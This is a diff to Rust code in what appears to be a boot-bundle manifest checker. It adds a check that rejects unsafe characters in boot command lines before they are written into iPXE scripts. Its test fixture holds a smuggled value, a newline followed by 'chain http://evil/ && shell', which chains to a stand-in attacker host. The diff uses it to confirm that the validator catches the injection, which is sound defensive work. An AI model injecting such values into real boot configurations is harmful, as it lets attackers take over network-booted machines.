@@ -139,6 +139,17 @@ impl Manifest {
                 problems.push(format!("promoted_from.version {:?} is not a valid version: {why}", from.version));
             }
         }
+        // Every value a boot menu carries as it is (serve writes them into
+        // per-host iPXE scripts from any bundle it is given).
+        let mut lines = vec![("boot.cmdline", &self.boot.cmdline)];
+        if let Some(uki) = &self.boot.uki {
+            lines.extend([("boot.uki.cmdline", &uki.cmdline), ("boot.uki.rootfs_url", &uki.rootfs_url)]);
+        }
+        for (what, line) in lines {
+            if let Err(why) = rootsmith_init::cmdline::check_script_safe(line) {
+                problems.push(format!("{what}: {why}"));
+            }
+        }
         let mut file = |what: &str, name: &str| {
             if let Err(bad) = check_file_name(name) {
                 problems.push(format!("{what}: {bad}"));
@@ -284,6 +295,7 @@ mod tests {
         ];
         manifest.artifacts.push(ManifestArtifact { sha256: "short".into(), ..artifact("other.img") });
         manifest.promoted_from = Some(PromotedFrom { version: "../0.9".into(), manifest_sha256: String::new() });
+        manifest.boot.cmdline = "console=ttyS0\nchain http://evil/ && shell".into();
         let problems = manifest.problems().join("\n");
         for expected in [
             "name \"../demo\" is not a valid name",
@@ -297,6 +309,7 @@ mod tests {
             "artifact \"manifest.json\" is the bundle's own index",
             "artifact \"ok.img\" is listed twice",
             "artifact \"other.img\" has sha256 \"short\"",
+            "boot.cmdline: '\\n' at byte 13 is a line break",
         ] {
             assert!(problems.contains(expected), "{expected}\nnot in:\n{problems}");
         }
